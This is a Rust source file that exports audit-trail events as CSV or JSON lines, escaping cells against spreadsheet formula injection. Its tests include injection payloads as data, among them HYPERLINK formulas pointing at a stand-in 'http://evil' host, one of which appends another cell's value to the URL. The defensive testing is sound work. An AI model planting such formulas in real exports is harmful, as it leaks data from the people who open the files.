//! The trail's events for other programs: CSV for spreadsheets, JSON lines as they are.

use serde_json::Value;

use super::Found;

/// The columns, by the fields of events that they show.
const COLUMNS: [&str; 31] = [
    "time",
    "incident",
    "kind",
    "outcome",
    "reason",
    "person.provider",
    "person.subject",
    "person.username",
    "by.username",
    "provider",
    "ip",
    "user_agent",
    "command_line",
    "role",
    "account",
    "operation",
    "purpose",
    "session_name",
    "source_identity",
    "stated_reason",
    "break_glass",
    "rules",
    "groups",
    "policy",
    "access_key_id",
    "assumed_role",
    "sts_request_id",
    "expires",
    "looked_for",
    "seq",
    "client_certificate",
];

/// A form of an export.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFormat {
    /// RFC 4180, with a line of headings; lists in one cell, with blanks between.
    Csv,
    /// One JSON object a line, every field as it is recorded.
    JsonLines,
}

impl ExportFormat {
    /// By the word in an address.
    #[must_use]
    pub fn named(word: &str) -> Option<Self> {
        match word {
            "csv" => Some(Self::Csv),
            "jsonl" => Some(Self::JsonLines),
            _ => None,
        }
    }

    /// The ending of a file's name, which is the word in an address too.
    #[must_use]
    pub const fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::JsonLines => "jsonl",
        }
    }

    /// The media type.
    #[must_use]
    pub const fn media_type(self) -> &'static str {
        match self {
            Self::Csv => "text/csv; charset=utf-8; header=present",
            Self::JsonLines => "application/x-ndjson",
        }
    }

    /// What stands before the first event.
    #[must_use]
    pub fn head(self) -> String {
        match self {
            Self::Csv => format!("{}\r\n", COLUMNS.join(",")),
            Self::JsonLines => String::new(),
        }
    }

    /// One event.
    #[must_use]
    pub fn line(self, found: &Found) -> String {
        match self {
            Self::Csv => {
                let cells: Vec<_> = COLUMNS.iter().map(|column| cell(&shown(found, column))).collect();
                format!("{}\r\n", cells.join(","))
            }
            Self::JsonLines => {
                let mut line = serde_json::to_string(&found.event).unwrap_or_default();
                line.push('\n');
                line
            }
        }
    }
}

fn shown(found: &Found, column: &str) -> String {
    let (first, rest) = column.split_once('.').map_or((column, None), |(first, rest)| (first, Some(rest)));
    let value = found.event.get(first).and_then(|value| rest.map_or(Some(value), |rest| value.get(rest)));
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(text)) => text.clone(),
        Some(Value::Array(items)) => {
            let texts: Vec<_> = items.iter().map(|item| item.as_str().map_or_else(|| item.to_string(), str::to_owned)).collect();
            texts.join(" ")
        }
        Some(other) => other.to_string(),
    }
}

/// What begins a formula, also in the full width of East Asian typing.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// A cell in quotation marks. Spreadsheets take what begins so for a formula, also inside of quotation marks, and people choose names and browsers
/// choose what they are called: an apostrophe makes it a text (OWASP, "CSV Injection").
///
/// Where a semicolon separates cells, as in the spreadsheets of half of Europe, or a tab, a row of ours is cut at those inside of cells, and what
/// stands behind begins a cell: it gets an apostrophe too, whatever blanks and quotation marks it has before it. The line `sep=,` would tell one
/// spreadsheet the separator, and be a first row that is none to every other program.
fn cell(text: &str) -> String {
    let mut cell = String::with_capacity(text.len() + 2);
    cell.push('"');
    if text.starts_with(FORMULA) || text.starts_with(['\t', '\r', '\n']) {
        cell.push('\'');
    }
    let mut rest = text;
    while let Some(at) = rest.find([';', '\t', '\r', '\n']) {
        let (before, behind) = rest.split_at(at + 1);
        cell.push_str(&before.replace('"', "\"\""));
        if behind.trim_start_matches([' ', '"', '\u{a0}', '\u{3000}']).starts_with(FORMULA) {
            cell.push('\'');
        }
        rest = behind;
    }
    cell.push_str(&rest.replace('"', "\"\""));
    cell.push('"');
    cell
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn found(event: Value) -> Found {
        let Value::Object(event) = event else { unreachable!() };
        Found { place: "1-0".parse().unwrap(), event }
    }

    #[test]
    fn w20_a_cell_is_no_formula_and_stays_one_cell() {
        for (text, shown) in [
            ("ana", "\"ana\""),
            ("=HYPERLINK(\"http://evil\",\"x\")", "\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\""),
            ("+1", "\"'+1\""),
            ("-1", "\"'-1\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\t=1", "\"'\t'=1\""),
            ("\r\n=1", "\"'\r\n'=1\""),
            ("x;=HYPERLINK(\"http://evil/?\"&B1;\"i\")", "\"x;'=HYPERLINK(\"\"http://evil/?\"\"&B1;\"\"i\"\")\""),
            ("x; +1", "\"x;' +1\""),
            ("x;\"-1", "\"x;'\"\"-1\""),
            ("x\t@a\r-1\n＝2", "\"x\t'@a\r'-1\n'＝2\""),
            ("Mozilla/5.0 (X11; Linux; rv:1) a=b; c-d", "\"Mozilla/5.0 (X11; Linux; rv:1) a=b; c-d\""),
            ("a,b\r\n\"c\"", "\"a,b\r\n\"\"c\"\"\""),
            ("", "\"\""),
        ] {
            assert_eq!(cell(text), shown, "{text:?}");
        }
    }

    #[test]
    fn an_event_is_one_row_with_a_cell_for_each_column() {
        let event = found(json!({ "time": "2026-01-14T12:00:00Z", "incident": "I", "kind": "issue", "outcome": "ok",
            "person": { "provider": "okta", "subject": "=1", "username": "a,b" }, "rules": ["one", "two"], "duration_seconds": 3600 }));
        let (head, row) = (ExportFormat::Csv.head(), ExportFormat::Csv.line(&event));
        assert_eq!(head.trim_end().split(',').count(), COLUMNS.len());
        assert!(row.starts_with("\"2026-01-14T12:00:00Z\",\"I\",\"issue\",\"ok\",\"\",\"okta\",\"'=1\",\"a,b\""), "{row}");
        assert!(row.contains("\"one two\"") && row.ends_with("\r\n"));
        let line = ExportFormat::JsonLines.line(&event);
        assert_eq!(serde_json::from_str::<Value>(&line).unwrap(), Value::Object(event.event));
        assert_eq!(["csv", "jsonl", "xls"].map(ExportFormat::named), [Some(ExportFormat::Csv), Some(ExportFormat::JsonLines), None]);
    }
}
